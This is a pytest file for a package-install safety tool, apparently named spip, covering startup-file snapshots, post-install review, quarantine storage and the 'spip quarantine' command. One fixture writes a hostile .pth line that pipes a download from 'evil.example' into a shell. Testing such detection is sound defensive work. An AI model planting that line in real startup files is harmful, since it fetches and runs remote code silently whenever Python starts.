"""The snapshot, the after-install review, the quarantine store and ``spip quarantine``."""

from __future__ import annotations

import asyncio
import errno
import io
import json
import os
import sys
from pathlib import Path

import msgspec
import pytest
from click.testing import CliRunner

from spip.afterinstall.review import review
from spip.afterinstall.snapshot import new_startup_files, owners, take_snapshot
from spip.checks.base import CheckContext
from spip.cli.quarantine import quarantine
from spip.local import quarantine as q
from spip.plan.report import PlannedDist
from spip.policy.config import Config
from spip.policy.findings import Finding, Severity
from spip.ui.output import confirm

IMPORT_LINE = b"import demo_hook; demo_hook.install()\n"


def _install(site: Path, name: str, files: dict[str, bytes]) -> None:
    """Write files into ``site`` as an installer would, with a dist-info whose RECORD lists them."""
    for rel, data in files.items():
        (site / rel).parent.mkdir(parents=True, exist_ok=True)
        (site / rel).write_bytes(data)
    dist_info = site / f"{name}-1.0.dist-info"
    dist_info.mkdir(exist_ok=True)
    record = "".join(f"{rel},,\n" for rel in files) + f"{name}-1.0.dist-info/RECORD,,\n"
    (dist_info / "RECORD").write_text(record)


@pytest.fixture
def site(tmp_path: Path) -> Path:
    path = tmp_path / "site-packages"
    path.mkdir()
    _install(path, "old", {"old/__init__.py": b"", "old.pth": b"/opt/old\n"})
    return path


@pytest.fixture
def config(tmp_path: Path) -> Config:
    return Config(cache_dir=tmp_path / "cache")


def _review(site: Path, config: Config, change, *, accepted=(), interactive=False, plan=()):
    """The review of what ``change`` installs; ``accepted``: startup files a ``pth-file``
    finding showed before install, that the gate let through."""
    before = take_snapshot([site])
    change()
    passed = [Finding("pth-file", Severity.MEDIUM, "x", "1", "", {"files": list(accepted)})]
    ctx = CheckContext(config, list(plan), None, None, None, passed)  # type: ignore[arg-type]
    ask = (lambda path: confirm(f"keep {path}?")) if interactive else None
    return asyncio.run(review(before, take_snapshot([site]), ctx, ask))


def test_snapshot_sees_new_and_changed_startup_files_only(site: Path) -> None:
    before = take_snapshot([site, site.parent / "not-there"])
    _install(site, "new", {"new/__init__.py": b"", "new.pth": IMPORT_LINE})
    (site / "old.pth").write_bytes(b"/opt/old\n/opt/more\n")
    after = take_snapshot([site, site.parent / "not-there"])
    assert new_startup_files(before, after) == [site / "new.pth", site / "old.pth"]
    assert owners(before, after)[site / "new.pth"] == ("new", "1.0")
    assert new_startup_files(after, take_snapshot([site])) == []


def test_new_import_line_pth_is_quarantined_without_a_terminal(
    site: Path, config: Config, capsys: pytest.CaptureFixture[str]
) -> None:
    review = _review(site, config, lambda: _install(site, "demo", {"demo.pth": IMPORT_LINE}))
    (f,) = review.findings
    assert (f.check, f.severity, f.package, f.version) == (
        "pth-file",
        Severity.MEDIUM,
        "demo",
        "1.0",
    )
    assert f.evidence["files"] == ["demo.pth"]
    (entry,) = review.quarantined
    assert not (site / "demo.pth").exists()
    err = capsys.readouterr().err
    assert f"spip quarantine restore {entry.id}" in err and "import demo_hook" in err
    manifest = json.loads(
        (config.cache_dir / "quarantine" / entry.id / "manifest.json").read_text()
    )
    assert manifest["origin"] == str(site / "demo.pth") and manifest["package"] == "demo"
    assert len(manifest["sha256"]) == 64 and "pth-file MEDIUM" in manifest["reason"]
    q.restore(config.cache_dir, entry.id)
    assert (site / "demo.pth").read_bytes() == IMPORT_LINE
    assert q.list_entries(config.cache_dir) == []


def test_terminal_answers_decide(
    site: Path, config: Config, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n"))
    review = _review(
        site, config, lambda: _install(site, "a", {"a.pth": IMPORT_LINE}), interactive=True
    )
    assert review.kept == [site / "a.pth"] and not review.quarantined
    monkeypatch.setattr(sys, "stdin", io.StringIO("\n"))  # the default is No
    review = _review(
        site, config, lambda: _install(site, "b", {"b.pth": IMPORT_LINE}), interactive=True
    )
    assert len(review.quarantined) == 1 and not (site / "b.pth").exists()


def test_high_is_quarantined_even_at_a_terminal(
    site: Path, config: Config, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n"))
    evil = b"import os; os.system('curl https://evil.example | sh')\n"
    review = _review(site, config, lambda: _install(site, "e", {"e.pth": evil}), interactive=True)
    assert review.findings[0].severity is Severity.HIGH and len(review.quarantined) == 1


def test_path_only_is_reported_and_kept_at_default(site: Path, config: Config) -> None:
    review = _review(site, config, lambda: _install(site, "p", {"p.pth": b"/opt/p\n"}))
    assert review.findings[0].severity is Severity.LOW
    assert review.kept == [site / "p.pth"] and not review.quarantined


def test_accepted_benign_allowed_and_ignored_files_stay(site: Path, config: Config) -> None:
    review = _review(
        site, config, lambda: _install(site, "a", {"a.pth": IMPORT_LINE}), accepted={"a.pth"}
    )
    assert review.findings == [] and (site / "a.pth").exists()
    precedence = (
        b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, "
        b"'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
    )
    review = _review(
        site, config, lambda: _install(site, "setuptools", {"distutils-precedence.pth": precedence})
    )
    assert review.findings == []
    allowing = Config(cache_dir=config.cache_dir, allow=("b:pth-file",))
    review = _review(site, allowing, lambda: _install(site, "b", {"b.pth": IMPORT_LINE}))
    assert len(review.findings) == 1 and review.kept == [site / "b.pth"]
    ignoring = Config(cache_dir=config.cache_dir, ignore_warning=True)
    review = _review(site, ignoring, lambda: _install(site, "c", {"c.pth": IMPORT_LINE}))
    assert review.kept == [site / "c.pth"]


def test_editable_install_of_this_install_is_benign(
    site: Path, config: Config, tmp_path: Path
) -> None:
    project = tmp_path / "proj"
    dist = msgspec.convert(
        {
            "download_info": {"url": project.as_uri(), "dir_info": {"editable": True}},
            "is_direct": True,
            "metadata": {"name": "My_Proj", "version": "1.0"},
        },
        type=PlannedDist,
    )
    finder = b"import __editable___my_proj_1_0_finder; __editable___my_proj_1_0_finder.install()\n"
    review = _review(
        site,
        config,
        lambda: _install(site, "my_proj", {"__editable__.my_proj-1.0.pth": finder}),
        plan=[dist],
    )
    assert review.findings == []


def test_sensitivity_high_quarantines_a_path_only_pth(site: Path, config: Config) -> None:
    strict = Config(cache_dir=config.cache_dir, sensitivity="high")
    review = _review(site, strict, lambda: _install(site, "p", {"p.pth": b"/opt/p\n"}))
    assert len(review.quarantined) == 1


def test_unknown_owner_and_package_folder(site: Path, config: Config) -> None:
    def change() -> None:
        (site / "sitecustomize").mkdir()
        (site / "sitecustomize" / "__init__.py").write_text("import sys\n")

    review = _review(site, config, change)
    (f,) = review.findings
    assert f.package == "(unknown package)" and f.severity is Severity.MEDIUM
    (entry,) = review.quarantined
    assert entry.sha256 is None and not (site / "sitecustomize").exists()
    q.restore(config.cache_dir, entry.id)
    assert (site / "sitecustomize" / "__init__.py").read_text() == "import sys\n"


def test_restore_refuses_what_it_should(site: Path, config: Config) -> None:
    entry = q.quarantine_file(
        site / "old.pth", config.cache_dir, package="old", version="1.0", reason="test"
    )
    for bad in ("nope", "..", "../x", ""):
        with pytest.raises(q.QuarantineError, match="no quarantine entry"):
            q.restore(config.cache_dir, bad)
    (site / "old.pth").write_text("/something/else\n")
    with pytest.raises(q.QuarantineError, match="exists again"):
        q.restore(config.cache_dir, entry.id)
    (site / "old.pth").unlink()
    held = config.cache_dir / "quarantine" / entry.id / "old.pth"
    held.write_text("import evil\n")
    with pytest.raises(q.QuarantineError, match="changed since"):
        q.restore(config.cache_dir, entry.id)


def test_move_across_file_systems_copies_before_removing(
    site: Path, config: Config, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_rename = os.rename

    def rename(src: str | Path, dest: str | Path) -> None:
        if Path(src) == site / "old.pth":
            raise OSError(errno.EXDEV, "Invalid cross-device link")
        real_rename(src, dest)

    monkeypatch.setattr(os, "rename", rename)
    entry = q.quarantine_file(
        site / "old.pth", config.cache_dir, package=None, version=None, reason="test"
    )
    assert not (site / "old.pth").exists()
    assert (config.cache_dir / "quarantine" / entry.id / "old.pth").read_bytes() == b"/opt/old\n"
    assert not list((config.cache_dir / "quarantine" / entry.id).glob("*.partial"))


def test_an_interrupted_entry_is_not_listed(site: Path, config: Config) -> None:
    entry = q.quarantine_file(
        site / "old.pth", config.cache_dir, package="old", version="1.0", reason="test"
    )
    folder = config.cache_dir / "quarantine" / entry.id
    (folder / "old.pth").unlink()  # as if the run died between manifest and move
    assert q.list_entries(config.cache_dir) == []


def test_cli_list_and_restore(site: Path, config: Config) -> None:
    env = {"SPIP_CACHE_DIR": str(config.cache_dir), "XDG_CONFIG_HOME": str(site.parent / "cfg")}
    runner = CliRunner()
    result = runner.invoke(quarantine, ["list"], env=env)
    assert result.exit_code == 0 and "empty" in result.output
    entry = q.quarantine_file(
        site / "old.pth",
        config.cache_dir,
        package="old",
        version="1.0",
        reason="pth-file LOW: only adds paths",
    )
    result = runner.invoke(quarantine, ["list"], env=env)
    assert entry.id in result.output and str(site / "old.pth") in result.output
    result = runner.invoke(quarantine, ["restore", entry.id], env=env)
    assert result.exit_code == 0 and (site / "old.pth").exists()
    result = runner.invoke(quarantine, ["restore", entry.id], env=env)
    assert result.exit_code == 1 and "no quarantine entry" in result.output


def test_a_failed_move_leaves_the_file_and_says_so(
    site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    blocked = tmp_path / "cache-is-a-file"
    blocked.write_text("")
    review = _review(
        site, Config(cache_dir=blocked), lambda: _install(site, "a", {"a.pth": IMPORT_LINE})
    )
    assert review.not_moved == [site / "a.pth"] and not review.quarantined
    assert (site / "a.pth").exists() and "left in place" in capsys.readouterr().err
